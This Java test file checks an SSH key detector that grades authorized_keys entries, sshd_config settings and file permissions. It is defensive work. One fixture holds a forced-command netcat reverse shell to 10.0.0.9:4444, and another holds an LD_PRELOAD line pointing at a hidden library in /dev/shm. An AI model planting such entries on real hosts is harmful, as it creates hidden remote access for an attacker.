package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.ward.detect.Results;
import dev.ward.model.Finding;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SshKeyDetectorTest {
    static final String KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7l0fQzW3rXb9cJ4hT2mN8vY5sE1aU6oP0iL3dG7kB backup@localhost\n";
    static final String ALICE = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC4zQ30SgSmn4b40pJ9rW+X6I6r5yiXVp49b8u/lQf0V alice@laptop\n";

    @TempDir
    Path dir;

    @Test
    void rootKeyIsMediumWithItsEvidence() {
        Results r = new TestRoot(dir).write("root/.ssh/authorized_keys", KEY).run(new SshKeyDetector());
        assertEquals(List.of("linux.ssh.root_key medium /root/.ssh/authorized_keys"), TestRoot.brief(r));
        Finding f = r.findings().get(0);
        assertEquals("root", f.evidence().get("user"));
        assertEquals(false, f.evidence().get("recently_modified"));
        assertEquals(TestRoot.OLD.toString(), f.evidence().get("file_mtime"));
        assertEquals("no package", f.evidence().get("package"));
        Map<?, ?> key = (Map<?, ?>) ((List<?>) f.evidence().get("keys")).get(0);
        assertEquals(1, key.get("line"));
        assertEquals("SHA256:LyVnwsihNnBtO1XvzDzloTF/3nx97jkOa/DJsqhR5qU", key.get("fingerprint"));
    }

    @Test
    void serviceAccountHighOrdinaryUserInfoRecentUserMedium() {
        Results r = new TestRoot(dir)
                .write("var/www/.ssh/authorized_keys", KEY)
                .write("home/alice/.ssh/authorized_keys", ALICE)
                .write("home/bob/.ssh/authorized_keys2", ALICE, "rw-------", Instant.parse("2024-05-20T00:00:00Z"))
                .run(new SshKeyDetector());
        assertEquals(List.of(
                "linux.ssh.system_account_key high /var/www/.ssh/authorized_keys",
                "linux.ssh.user_key info /home/alice/.ssh/authorized_keys",
                "linux.ssh.user_key medium /home/bob/.ssh/authorized_keys2"), TestRoot.brief(r));
        assertEquals(true, r.findings().get(2).evidence().get("recently_modified"));
        assertEquals("/usr/sbin/nologin", r.findings().get(0).evidence().get("shell"));
    }

    @Test
    void aNewUsersFirstKeyIsOnlyInventory() {
        // carol was created two days before the scan (shadow's last change), then added her key
        Results r = new TestRoot(dir)
                .write("etc/passwd", TestRoot.PASSWD + "carol:x:1002:1002::/home/carol:/bin/bash\n", "rw-r--r--", TestRoot.OLD)
                .write("etc/shadow", "carol:!:19873:0:99999:7:::\nbob:*:19000:0:99999:7:::\n")
                .write("home/carol/.ssh/authorized_keys", ALICE, "rw-------", Instant.parse("2024-05-31T00:00:00Z"))
                .write("home/bob/.ssh/authorized_keys", ALICE, "rw-------", Instant.parse("2024-05-31T00:00:00Z"))
                .run(new SshKeyDetector());
        assertEquals(List.of(
                "linux.ssh.user_key info /home/carol/.ssh/authorized_keys",
                "linux.ssh.user_key medium /home/bob/.ssh/authorized_keys"), TestRoot.brief(r).stream().sorted(
                        java.util.Comparator.comparing((String x) -> !x.contains("carol"))).toList());
    }

    @Test
    void recentWindowIsAParameter() {
        Results r = new TestRoot(dir)
                .write("home/bob/.ssh/authorized_keys", ALICE, "rw-------", Instant.parse("2024-05-20T00:00:00Z"))
                .run(new SshKeyDetector(7));
        assertEquals(List.of("linux.ssh.user_key info /home/bob/.ssh/authorized_keys"), TestRoot.brief(r));
    }

    @Test
    void optionsKeysCommandAndMatchKeysFilesAndIncludes() {
        Results r = new TestRoot(dir)
                .write("etc/ssh/sshd_config", "Include sshd_config.d/*.conf\nMatch User bob\n  AuthorizedKeysFile /etc/ssh/keys/%u\n")
                .write("etc/ssh/sshd_config.d/10-keys.conf", "AuthorizedKeysCommand /usr/local/bin/getkeys %u\n")
                .write("etc/ssh/sshd_config.d/notes.txt", "AuthorizedKeysCommand /not/included\n")
                .write("etc/ssh/keys/bob", "command=\"/bin/sh -c 'nc -e /bin/sh 10.0.0.9 4444'\",no-pty " + ALICE)
                .run(new SshKeyDetector());
        assertEquals(List.of(
                "linux.ssh.user_key info /etc/ssh/keys/bob",
                "linux.ssh.key_options medium /etc/ssh/keys/bob",
                "linux.ssh.authorized_keys_command medium /etc/ssh/sshd_config.d/10-keys.conf"), TestRoot.brief(r));
        assertEquals("/bin/sh -c 'nc -e /bin/sh 10.0.0.9 4444'", r.findings().get(1).evidence().get("forced_command"));
    }

    @Test
    void worldWritableKeysFileAndSshDirectory() {
        Results r = new TestRoot(dir)
                .write("home/alice/.ssh/authorized_keys", ALICE, "rw-rw-rw-", TestRoot.OLD)
                .chmod("home/alice/.ssh", "rwxrwxrwx")
                .run(new SshKeyDetector());
        assertEquals(List.of(
                "linux.ssh.user_key info /home/alice/.ssh/authorized_keys",
                "linux.ssh.writable_key_path medium /home/alice/.ssh/authorized_keys",
                "linux.ssh.writable_key_path medium /home/alice/.ssh"), TestRoot.brief(r));
    }

    @Test
    void malformedLinesAreErrorsNotFindings() {
        Results r = new TestRoot(dir).write("home/alice/.ssh/authorized_keys", "ssh-ed25519 !!!\n").run(new SshKeyDetector());
        assertEquals(List.of(), TestRoot.brief(r));
        assertEquals("/home/alice/.ssh/authorized_keys", r.errors().get(0).path());
    }

    @Test
    void noKeysNoFindings() {
        Results r = new TestRoot(dir).write("etc/ssh/sshd_config", "AuthorizedKeysCommand none\n").run(new SshKeyDetector());
        assertEquals(List.of(), TestRoot.brief(r));
    }

    @Test
    void certificateAuthorityKeysUserEnvironmentPrincipalsCommandAndUserCa() {
        Results r = new TestRoot(dir)
                .write("etc/ssh/sshd_config", "PermitUserEnvironment = yes\n"
                        + "AuthorizedPrincipalsCommand /usr/local/bin/principals %u\nTrustedUserCAKeys /etc/ssh/ca.pub\n")
                .write("home/alice/.ssh/authorized_keys", "cert-authority,principals=\"root\" " + ALICE)
                .write("home/bob/.ssh/environment", "LD_PRELOAD=/dev/shm/.l.so\n")
                .run(new SshKeyDetector());
        assertEquals(List.of(
                "linux.ssh.user_key info /home/alice/.ssh/authorized_keys",
                "linux.ssh.key_options medium /home/alice/.ssh/authorized_keys",
                "linux.ssh.permit_user_environment medium /etc/ssh/sshd_config",
                "linux.ssh.authorized_principals_command medium /etc/ssh/sshd_config",
                "linux.ssh.trusted_user_ca info /etc/ssh/sshd_config"), TestRoot.brief(r));
        assertEquals(List.of("/home/bob/.ssh/environment"), r.findings().get(2).evidence().get("environment_files"));
    }

    @Test
    void userEnvironmentOffIsQuiet() {
        Results r = new TestRoot(dir).write("etc/ssh/sshd_config", "PermitUserEnvironment no\n")
                .write("home/bob/.ssh/environment", "X=1\n").run(new SshKeyDetector());
        assertEquals(List.of(), TestRoot.brief(r));
    }
}
